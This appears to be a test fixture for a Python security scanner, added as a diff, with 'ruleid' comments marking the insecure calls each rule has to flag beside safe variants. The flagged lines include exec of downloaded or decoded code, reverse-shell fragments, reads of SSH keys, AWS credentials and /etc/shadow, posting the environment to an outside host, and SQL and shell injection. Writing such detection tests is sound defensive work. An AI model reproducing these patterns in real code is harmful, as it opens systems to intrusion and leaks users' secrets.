@@ -1,0 +1,193 @@
+# The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
+import base64
+import builtins
+import hashlib
+import json
+import os
+import pathlib
+import pickle
+import pty
+import random
+import secrets
+import shutil
+import ssl
+import subprocess
+import sys
+import tarfile
+import tempfile
+import zlib
+
+import jinja2
+import jwt
+import lxml.etree
+import paramiko
+import requests
+import yaml
+
+
+def runs(data, sock, name):
+    # ruleid: python.decoded_code, python.eval
+    exec(base64.b64decode(data))
+    # ruleid: python.decoded_code, python.eval
+    eval(zlib.decompress(bytes.fromhex(data)).decode())
+    # ruleid: python.fetched_code, python.eval
+    exec(requests.get("https://a.example/x").text)
+    # ruleid: python.eval
+    eval(name)
+    eval("1 + 1")
+    model.eval()
+    # ruleid: python.reverse_shell
+    os.dup2(sock.fileno(), 0)
+    # ruleid: python.reverse_shell
+    pty.spawn("/bin/sh")
+    pty.spawn("vi")
+
+
+def shells(name):
+    # ruleid: python.shell
+    subprocess.run(f"ls {name}", shell=True, check=True)
+    # ruleid: python.shell
+    os.system("ls " + name)
+    # ruleid: python.shell
+    os.popen(name).read()
+    subprocess.run(["ls", name], check=True)
+    subprocess.run("ls", shell=True, check=True)
+    os.system("ls")
+
+
+def reads(data, path):
+    # ruleid: python.unpickled
+    pickle.loads(data)
+    with open(path, "rb") as file:
+        # ruleid: python.unpickled
+        pickle.load(file)
+    pickle.dumps(data)
+    json.loads(data)
+    # ruleid: python.yaml_load
+    yaml.load(data)
+    # ruleid: python.yaml_load
+    yaml.load(data, Loader=yaml.Loader)
+    yaml.safe_load(data)
+    yaml.load(data, Loader=yaml.SafeLoader)
+    # ruleid: python.tar_all
+    tarfile.open(path).extractall("/tmp/x")
+    tarfile.open(path).extractall("/tmp/x", filter="data")
+    # ruleid: python.tar_all
+    shutil.unpack_archive(path)
+    # ruleid: python.external_entities
+    lxml.etree.XMLParser(resolve_entities=True)
+
+
+def speaks(url, context, client, token):
+    # ruleid: python.tls_unverified
+    requests.get(url, verify=False)
+    requests.get(url, verify="ca.pem")
+    # ruleid: python.tls_unverified
+    context.verify_mode = ssl.CERT_NONE
+    context.verify_mode = ssl.CERT_REQUIRED
+    # ruleid: python.tls_unverified
+    context.check_hostname = False
+    # ruleid: python.tls_unverified
+    ssl._create_unverified_context()
+    # ruleid: python.host_key_unverified
+    client.set_missing_host_key_policy(paramiko.AutoAddPolicy)
+    # ruleid: python.token_unverified
+    jwt.decode(token, options={"verify_signature": False})
+    # ruleid: python.token_unverified
+    jwt.decode(token, "key", algorithms=["HS256", "none"])
+    jwt.decode(token, "key", algorithms=["HS256"])
+
+
+def asks(cursor, name):
+    # ruleid: python.sql_text
+    cursor.execute(f"select * from t where name = '{name}'")
+    # ruleid: python.sql_text
+    cursor.execute("select * from t where name = '%s'" % name)
+    # ruleid: python.sql_text
+    cursor.execute("select * from " + name)
+    # ruleid: python.sql_text
+    cursor.executescript(f"drop table {name}")
+    cursor.execute("select * from t where name = ?", (name,))
+    pool.submit(f"work on {name}")
+
+
+def writes(path):
+    # ruleid: python.temporary_name
+    tempfile.mktemp()
+    tempfile.mkstemp()
+    # ruleid: python.open_rights
+    os.chmod(path, 0o777)
+    # ruleid: python.open_rights
+    pathlib.Path(path).chmod(0o666)
+    os.chmod(path, 0o755)
+    pathlib.Path(path).chmod(0o640)
+    # ruleid: python.open_rights
+    os.umask(0)
+    os.umask(0o077)
+
+
+def makes(password, key, text):
+    # ruleid: python.weak_chance
+    session_token = random.choice("abc")
+    # ruleid: python.weak_chance
+    salt = "".join(random.choice("abc") for _ in range(8))
+    sample = random.choice("abc")
+    token = secrets.token_hex(16)
+    nonce = random.SystemRandom().choice("abc")
+    # ruleid: python.weak_hash
+    hashlib.md5(password.encode())
+    hashlib.sha256(text)
+    # ruleid: python.weak_cipher
+    modes.ECB()
+    modes.GCM(key)
+
+
+def serves(app, sock, text):
+    # ruleid: python.debug_server
+    app.run(debug=True)
+    app.run()
+    # ruleid: python.unescaped_template
+    jinja2.Environment(autoescape=False)
+    jinja2.Environment(autoescape=True)
+    # ruleid: python.unescaped_template
+    mark_safe(text)
+    # ruleid: python.every_interface
+    sock.bind(("0.0.0.0", 80))
+    sock.bind(("127.0.0.1", 80))
+    # ruleid: python.every_interface
+    app.run(host="0.0.0.0")
+
+
+def takes(home):
+    # ruleid: python.reads_keys
+    open(os.path.expanduser("~/.ssh/id_rsa"))
+    # ruleid: python.reads_keys
+    key = home / ".aws/credentials"
+    # ruleid: python.reads_keys
+    pathlib.Path("/etc/shadow").read_text()
+    pathlib.Path("/etc/hosts").read_text()
+    # ruleid: python.sends_environment
+    requests.post("https://a.example", json=dict(os.environ))
+    requests.post("https://a.example", json={"user": os.environ["USER"]})
+    # ruleid: python.metadata_service
+    requests.get("http://169.254.169.254/latest/meta-data/")
+    requests.get("http://192.0.2.1/latest")
+
+
+def hooks(finder, work):
+    # ruleid: python.interpreter_hook
+    sys.meta_path.insert(0, finder)
+    # ruleid: python.interpreter_hook
+    sys.modules["json"] = finder
+    # ruleid: python.interpreter_hook
+    builtins.open = work
+    there = sys.modules["json"]
+    # ruleid: python.swallowed
+    try:
+        work()
+    except Exception:
+        pass
+    try:
+        work()
+    except ValueError:
+        pass
